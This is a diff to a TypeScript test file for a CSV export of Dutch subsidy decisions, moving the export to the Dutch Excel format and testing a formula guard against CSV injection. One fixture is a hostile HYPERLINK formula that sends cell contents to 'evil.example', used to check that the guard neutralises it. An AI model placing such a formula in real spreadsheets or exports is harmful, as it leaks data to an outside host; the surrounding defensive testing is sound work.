@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { parseCsv, readAsSpreadsheet } from '../../../../test/support/csv.js';
-import { CSV_COLUMNS, csvField, neutraliseFormulas, reportsToCsv } from './report-csv.js';
+import { CSV_COLUMNS, csvField, neutraliseFormulas, reportsToCsv as toCsv } from './report-csv.js';
 import type { ReportDecisionView, ReportView } from './report.dto.js';
 
 /** What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection"). */
@@ -38,11 +38,19 @@ describe('csvField', () => {
   });
 });
 
+const AREAS = new Map([['oost', 'Oost']]);
+const reportsToCsv = (reports: ReportView[]) => toCsv(reports, AREAS);
+/** The records as Dutch Excel splits them, strictly: without the byte order mark, on `;`. */
+const records = (csv: string) => {
+  expect(csv.startsWith('\uFEFF')).toBe(true);
+  return parseCsv(csv.slice(1), ';');
+};
+
 describe('reportsToCsv', () => {
-  it('writes a header and one CRLF record per decision, even for an empty report', () => {
+  it('writes a byte order mark, a Dutch header and one CRLF record per decision, even for an empty report', () => {
     const empty = { number: 4, decisions: [], cases: [] } as unknown as ReportView;
     expect(reportsToCsv([empty]).split('\r\n')).toEqual([
-      expect.stringMatching(/^reportNumber,seq,decidedAt,reference,/),
+      '\uFEFFBrief;Volgnummer;Besloten op;Kenmerk;Soort;Titel;Gebied;Thema;Besluit;Bedrag;Terug naar het budget;Zaak afgerond',
       '',
     ]);
   });
@@ -71,23 +79,22 @@ describe('reportsToCsv', () => {
   it('reads back as written with a strict RFC 4180 reader, texts changed only by the formula guard', () => {
     fc.assert(
       fc.property(hostile, hostile, (title, theme) => {
-        const [header, record, ...rest] = parseCsv(reportsToCsv([reportWith(title, theme)]));
+        const [header, record, ...rest] = records(reportsToCsv([reportWith(title, theme)]));
         expect(header).toEqual([...CSV_COLUMNS]);
         expect(rest).toEqual([]);
         expect(record).toEqual([
           '7',
           '12',
-          '2026-03-01T10:00:00.000Z',
+          '01-03-2026 11:00',
           'INI-2026-000001',
-          'initiative',
+          'Bewonersinitiatief',
           neutraliseFormulas(title),
-          'oost',
+          'Oost',
           neutraliseFormulas(theme),
-          'SETTLE',
           'Subsidie vastgesteld',
-          '150000',
-          '50000',
-          'false',
+          '1500,00',
+          '500,00',
+          'nee',
         ]);
         // The guard only adds apostrophes, and only where a formula could start.
         expect(neutraliseFormulas(title).replace(/'/g, '')).toBe(title.replace(/'/g, ''));
@@ -114,13 +121,34 @@ describe('reportsToCsv', () => {
     );
   });
 
-  it('keeps Bankjes;=HYPERLINK(…) in one cell for a comma reader and out of a formula for Dutch Excel', () => {
+  it('keeps Bankjes;=HYPERLINK(…) in one cell for Dutch Excel and out of a formula for a comma reader', () => {
     const title = 'Bankjes;=HYPERLINK("https://evil.example/?q="&A1,"Klik")';
     const csv = reportsToCsv([reportWith(title, 'groen')]);
-    expect(parseCsv(csv)[1][5]).toBe(`Bankjes;'=HYPERLINK("https://evil.example/?q="&A1,"Klik")`);
-    const dutch = readAsSpreadsheet(csv, ';')[1];
-    expect(dutch).toHaveLength(2);
-    expect(dutch[1]).toMatch(/^'=HYPERLINK/);
+    const guarded = `Bankjes;'=HYPERLINK("https://evil.example/?q="&A1,"Klik")`;
+    expect(records(csv)[1][5]).toBe(guarded);
+    expect(readAsSpreadsheet(csv, ';')[1][5]).toBe(guarded);
+    const comma = readAsSpreadsheet(csv, ',')[1];
+    expect(comma.filter((cell) => /^=/.test(cell))).toEqual([]);
+  });
+
+  it('writes moments in Amsterdam time (summer and winter), amounts with a decimal comma, unknown areas as their code', () => {
+    const base = decision('Plan', 'groen');
+    const report = {
+      number: 1,
+      decisions: [
+        { ...base, at: '2026-07-01T22:30:00.000Z', amountCents: 123_456_789, releasedCents: 5 },
+        { ...base, seq: 13, at: '2026-12-31T23:05:00.000Z', areaCode: 'nieuw', amountCents: 0 },
+      ],
+      cases: [],
+    } as unknown as ReportView;
+    const [, summer, winter] = records(reportsToCsv([report]));
+    expect([summer[2], summer[6], summer[9], summer[10]]).toEqual([
+      '02-07-2026 00:30',
+      'Oost',
+      '1234567,89',
+      '0,05',
+    ]);
+    expect([winter[2], winter[6], winter[9]]).toEqual(['01-01-2027 00:05', 'nieuw', '0,00']);
   });
 
   it('gives each decision its Dutch word, leaves absent amounts empty, and marks the decision that closed a filed case', () => {
@@ -152,13 +180,13 @@ describe('reportsToCsv', () => {
       ],
       cases: [{ caseId: base.caseId }, { caseId: 'other' }],
     } as unknown as ReportView;
-    const [, ...rows] = parseCsv(reportsToCsv([report]));
-    const pick = (r: string[]) => [r[1], r[3], r[8], r[9], r[10], r[11], r[12]];
+    const [, ...rows] = records(reportsToCsv([report]));
+    const pick = (r: string[]) => [r[1], r[3], r[4], r[8], r[9], r[10], r[11]];
     expect(rows.map(pick)).toEqual([
-      ['5', 'INI-2026-000001', 'HONOUR', 'Toegekend', '200000', '', 'false'],
-      ['9', 'INI-2026-000001', 'SETTLE', 'Subsidie vastgesteld', '150000', '50000', 'true'],
-      ['10', 'INI-2026-000002', 'REJECT', 'Afgewezen', '', '', 'true'],
-      ['11', 'UDR-2026-000003', 'SIGN_AGREEMENT', 'Overeenkomst getekend', '', '', 'false'],
+      ['5', 'INI-2026-000001', 'Bewonersinitiatief', 'Toegekend', '2000,00', '', 'nee'],
+      ['9', 'INI-2026-000001', 'Bewonersinitiatief', 'Subsidie vastgesteld', '1500,00', '500,00', 'ja'],
+      ['10', 'INI-2026-000002', 'Bewonersinitiatief', 'Afgewezen', '', '', 'ja'],
+      ['11', 'UDR-2026-000003', 'Uitdaagrecht', 'Overeenkomst getekend', '', '', 'nee'],
     ]);
   });
 });
